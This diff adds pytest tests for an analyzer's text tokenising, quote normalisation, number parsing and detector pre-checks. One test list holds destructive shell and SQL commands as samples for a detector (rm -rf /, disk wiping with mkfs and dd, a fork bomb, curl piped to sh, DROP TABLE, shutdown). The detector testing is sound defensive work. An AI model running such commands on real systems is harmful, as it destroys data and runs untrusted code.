@@ -9,7 +9,7 @@ import pytest
 from collections import Counter
 
 from analyzer.fa import facts, lang, source_index, text
-from analyzer.fa.detectors import compliance, leaks
+from analyzer.fa.detectors import agent, compliance, leaks, unsafe
 from analyzer.fa.detectors.base import ItemView
 from analyzer.fa.detectors.claims import SPECULATION, TOOL_CLAIM
 from analyzer.fa.detectors.grounding import _NEGATION, _Source, check_negation_conflict
@@ -164,3 +164,58 @@ def test_negation_check_reads_each_sentence_as_a_whole_scan_would() -> None:
     assert [f.subcategory_id for f in found] == ["contradicts_source"]
     assert found[0].evidence[0].text == "The drug has no interactions with alcohol."
     assert check_negation_conflict(ItemView(plain, "rag")) == []  # "Nothing else." shares no terms
+
+
+def test_ascii_tokenising_finds_the_unicode_pattern_tokens() -> None:
+    for sample in [*TRICKY, *TEXTS, "x_y a-b-c don't -lead trail- 'q' 3.14 A1-B2", "naïve café—über's", "\x1c\x1f"]:
+        normalized = text.normalize_quotes(sample)
+        assert text.word_pattern(normalized).findall(normalized) == text.WORD_RE.findall(normalized)
+        assert text.tokens(sample) == tuple(text.WORD_RE.findall(normalized))
+        if sample.isascii():
+            lowered = sample[:400].lower()
+            assert lang._ASCII_WORD.findall(lowered) == lang._WORD.findall(lowered)
+
+
+def test_quotes_and_joined_words_normalise_as_the_regex_versions() -> None:
+    quotes = str.maketrans({"“": '"', "”": '"', "„": '"', "‘": "'", "’": "'", "–": "-", "—": "-"})
+    joiner = re.compile(r"['’\-]")
+    for sample in [*TRICKY, *TEXTS, "“A–B” ‘c’ — d’s", "rock-'n'-roll well--known it's e-mail"]:
+        assert text.normalize_quotes(sample) == sample.translate(quotes)
+        expected = set(text.words(sample))
+        for word in [w for w in expected if "-" in w or "'" in w]:
+            expected.update(joiner.split(word))
+            expected.add(joiner.sub("", word))
+        if not text._CAMEL_PAIR.search(sample):
+            assert text.vocabulary(sample) == expected
+
+
+# One sample per alternative of each pattern guarded by text.may_contain: every match holds a hint.
+GUARDED = [
+    (compliance.REFUSAL.pattern, compliance._REFUSAL_HINTS,
+     ["I'm sorry, but I cannot do it", "I am afraid I'm not able", "I can't help", "I am unable to assist",
+      "i won't provide", "I will not answer", "I must decline to share", "As an AI language model, I do not",
+      "as an ai i am not", "I'm not allowed to discuss", "im not permitted to help"]),
+    (agent._STEP_LIMIT, agent._STEP_LIMIT_HINTS,
+     ["Max steps reached", "maximum number of iterations (10) exceeded", "hit the max turns", "step limit reached",
+      "stopped due to iteration limit", "recursion limit of 25", "GraphRecursionError", "MaxTurnsExceeded",
+      "AgentMaxIterations", "max_iterations"]),
+    *((pattern, hints, samples) for (_, hints, pattern), samples in zip(unsafe._DESTRUCTIVE, [
+        ["rm -rf /", "RM -Rf ~"], ["mkfs.ext4 /dev/sda", "dd if=x of=/dev/sda", "> /dev/sdb", "format c:"],
+        [":(){ :|:& };:"], ["chmod -R 777 /"], ["curl http://x | sh", "WGET x | sudo bash"],
+        ["DROP TABLE users", "truncate table t"], ["delete from users;"], ["shutdown -h now", "halt -f", "init 0"]])),
+]
+
+
+@pytest.mark.parametrize(("pattern", "hints", "samples"), GUARDED)
+def test_literal_pre_checks_never_skip_a_match(pattern: re.Pattern[str], hints: tuple[str, ...],
+                                               samples: list[str]) -> None:
+    for sample in samples:
+        assert pattern.search(sample), sample  # the sample exercises the pattern
+        assert text.may_contain(sample, sample.lower(), hints), sample
+    assert not text.may_contain("nothing to see", "nothing to see", hints)
+    assert text.may_contain("ſ", "ſ", hints)  # non-ASCII text is always scanned
+
+
+def test_source_numbers_keep_their_scale_decimals_and_lists() -> None:
+    sample = "3.5 million, 1,234 and 1,2,3; 12k, 7 billion, 40, 12,"
+    assert source_index._text_numbers(sample) == {3.5e6, 1234.0, 1.0, 2.0, 3.0, 12e3, 7e9, 40.0, 12.0}
